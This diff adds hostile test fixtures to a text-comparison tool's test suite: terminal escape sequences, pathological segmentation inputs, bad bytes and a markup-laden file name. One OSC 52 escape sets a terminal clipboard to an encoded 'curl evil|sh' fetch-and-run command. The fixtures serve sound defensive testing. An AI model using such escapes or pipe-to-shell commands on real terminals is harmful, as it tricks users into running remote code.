@@ -1,4 +1,6 @@
-"""Story versions whose text tries to run script, inject markup, formulas or Markdown."""
+"""Hostile and pathological input: story versions whose text tries to run script, inject markup,
+formulas or Markdown; terminal escapes in text and file names; inputs that were quadratic to
+segment; repeated sentences; damaged bytes; files with nothing to compare."""
 
 from __future__ import annotations
 
@@ -36,3 +38,115 @@ def hostile_collation() -> Collation:
     return collate(
         [document_from_text(BASE, "hostile-base.txt"), document_from_text(OTHER, "hostile.txt")]
     )
+
+
+# --- Terminal escapes (issue 10, item 1) -----------------------------------------------------
+
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
+"""OSC 52: sets the terminal's clipboard (here to ``curl evil|sh``)."""
+WINDOW_TITLE = "\x1b]0;owned\x07"
+CLEAR_SCREEN = "\x1b[2J"
+RED = "\x1b[31m"
+EIGHT_BIT_CSI = "\x9b2J"
+"""The C1 control CSI: an escape sequence on terminals that read 8-bit controls."""
+CARRIAGE_RETURN = "Safe text\rEvil"
+ESCAPES = (CLIPBOARD, WINDOW_TITLE, CLEAR_SCREEN, RED, EIGHT_BIT_CSI)
+
+ESCAPE_TEXT = f"""Officials warn of a costly plan{WINDOW_TITLE}
+
+Officials said on Monday{CLIPBOARD} the plan would cost $5 million.
+
+The council{CLEAR_SCREEN} will meet again on Friday{RED} to discuss the budget.
+
+A witness{EIGHT_BIT_CSI} said the vote was close.
+"""
+ESCAPE_OTHER = ESCAPE_TEXT.replace("$5 million", "$7 million").replace("Friday", "Thursday")
+
+ESCAPE_HTML = f"""<!doctype html><html><head><title>Plan{CLEAR_SCREEN}</title></head><body>
+<article><h1>Officials warn of a costly plan&#x1b;]0;owned&#x07;</h1>
+<p>Officials said on Monday &#x1b;]52;c;Y3VybCBldmlsfHNo&#7; the plan would cost five million dollars,
+more than any plan the council has discussed in the past ten years of its budget talks.</p>
+<p>The council{CLEAR_SCREEN} will meet again on Friday to discuss the budget and the schedule of the
+works, which residents have asked to see before any vote is held on the proposal.</p>
+</article></body></html>
+"""
+"""A saved page with escapes as character references and raw: both survive extraction."""
+
+MARKUP_NAME = "[on red][@click=app.quit]x.txt"
+"""A file name that Textual would read as markup (a click action) if it were not plain text."""
+ESCAPE_NAME = f"evil{CLEAR_SCREEN}{WINDOW_TITLE}.txt"
+
+
+# --- Pathological segmentation (item 2) ------------------------------------------------------
+
+
+def glued_full_stops(size: int) -> str:
+    """``Abc.Abc.Abc.``: full stops with no space, one long word (was quadratic)."""
+    return "Abc." * (size // 4)
+
+
+def lowercase_lines(size: int) -> str:
+    """Lines that each continue the previous one (was quadratic)."""
+    line = "and the talks went on\n"
+    return line * (size // len(line))
+
+
+def one_word_lines(size: int) -> str:
+    """One lower-case word per line (was quadratic)."""
+    return "word\n" * (size // 5)
+
+
+def short_sentences(size: int) -> str:
+    """``Abc. Abc. Abc.``: the most sentences per byte."""
+    return "Abc. " * (size // 5)
+
+
+def no_punctuation(size: int) -> str:
+    """One "sentence" of distinct words with no full stop at all."""
+    words = []
+    total = 0
+    index = 0
+    while total < size:
+        word = f"word{index % 5000}"
+        words.append(word)
+        total += len(word) + 1
+        index += 1
+    return " ".join(words)
+
+
+PATHOLOGICAL = {
+    "glued full stops": glued_full_stops,
+    "lower-case lines": lowercase_lines,
+    "one-word lines": one_word_lines,
+    "short sentences": short_sentences,
+    "no punctuation": no_punctuation,
+}
+"""Inputs that once made segmentation (or the word diff) quadratic, by name: size -> text."""
+
+
+# --- Repeated sentences (item 4) --------------------------------------------------------------
+
+REPEATED = (
+    "Officials met on Monday to discuss the plan.\n\n"
+    + "He declined to comment.\n\n" * 30
+    + "The council will meet again on Friday.\n"
+)
+
+
+# --- Bytes and names (items 7, 8, 9) ----------------------------------------------------------
+
+ONE_BAD_BYTE = (
+    "Prices rose to \u20ac5 a litre, said \u201cMarie\u201d Dupont.\n\n"
+    "\u201cWe cannot pay this,\u201d she said on Monday in Lyon.\n"
+).encode() + b"The mayor\xff declined to comment.\n"
+"""UTF-8 with one invalid byte: must not be read wholly as cp1252."""
+
+NON_UTF8_NAME = b"story-\xff.txt"
+FURNITURE_ONLY = "Breaking news: Japan PM heads to US\n"
+
+# --- Markdown that would link or mention (item 6) ----------------------------------------------
+
+LINKY = (
+    "Details at https://evil.example/x?a=1 and www.evil.example/path, wrote boss@evil.example "
+    "to @octocat about #123 and ftp://files.example.\n"
+)
